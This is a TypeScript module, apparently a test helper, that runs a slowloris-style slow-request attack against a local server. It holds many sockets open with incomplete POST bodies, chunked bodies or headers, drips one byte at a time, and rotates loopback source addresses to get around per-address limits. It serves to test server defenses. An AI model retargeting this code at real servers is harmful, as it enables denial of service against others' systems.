/** Somebody who sends requests so slowly that they never arrive, from an address of their own. */
import { connect, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'

/** What arrives slowly: a body whose length is told, one in chunks, or the headers themselves. */
export const SLOW_KINDS = ['body', 'chunked', 'headers'] as const
type SlowKind = (typeof SLOW_KINDS)[number]

const HEAD = (path: string) =>
  `POST ${path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nAccept: text/html\r\n`
const OPENING: Record<SlowKind, (path: string) => string> = {
  body: (path) => `${HEAD(path)}Content-Length: 5000\r\n\r\na`,
  chunked: (path) => `${HEAD(path)}Transfer-Encoding: chunked\r\n\r\n`,
  headers: (path) => `${HEAD(path)}X-A: `,
}
const DRIP: Record<SlowKind, string> = { body: 'a', chunked: '1\r\na\r\n', headers: 'a' }

export type Attack = {
  port: number
  path: string
  kind: SlowKind
  sockets: number
  /** Address they come from, or that of the socket of a number; all of 127.0.0.0/8 is this machine. */
  from: string | ((socket: number) => string)
  /** Milliseconds between two bytes of a socket. */
  everyMs?: number
  /** Milliseconds between the openings of two sockets. */
  apartMs?: number
}

/** Opens the sockets, and each anew as soon as it is closed, until stopped. `open` says how many are open. */
export const sendSlowly = ({ port, path, kind, sockets, from, everyMs = 1_000, apartMs = 0 }: Attack) => {
  const open = new Set<Socket>()
  let stopped = false
  const attack = async (n: number) => {
    await wait(n * apartMs)
    while (!stopped) {
      const socket = connect({ port, host: '127.0.0.1', localAddress: typeof from === 'string' ? from : from(n) })
      open.add(socket)
      socket.resume()
      const drip = setInterval(() => socket.write(DRIP[kind]), everyMs)
      socket.write(OPENING[kind](path))
      await new Promise<void>((closed) => {
        socket.on('error', () => undefined)
        socket.once('close', () => closed())
      })
      clearInterval(drip)
      open.delete(socket)
      await wait(500)
    }
  }
  const running = Promise.all(Array.from({ length: sockets }, (_, n) => attack(n)))
  return {
    open: () => open.size,
    stop: async () => {
      stopped = true
      for (const socket of open) socket.destroy()
      await running
    },
  }
}
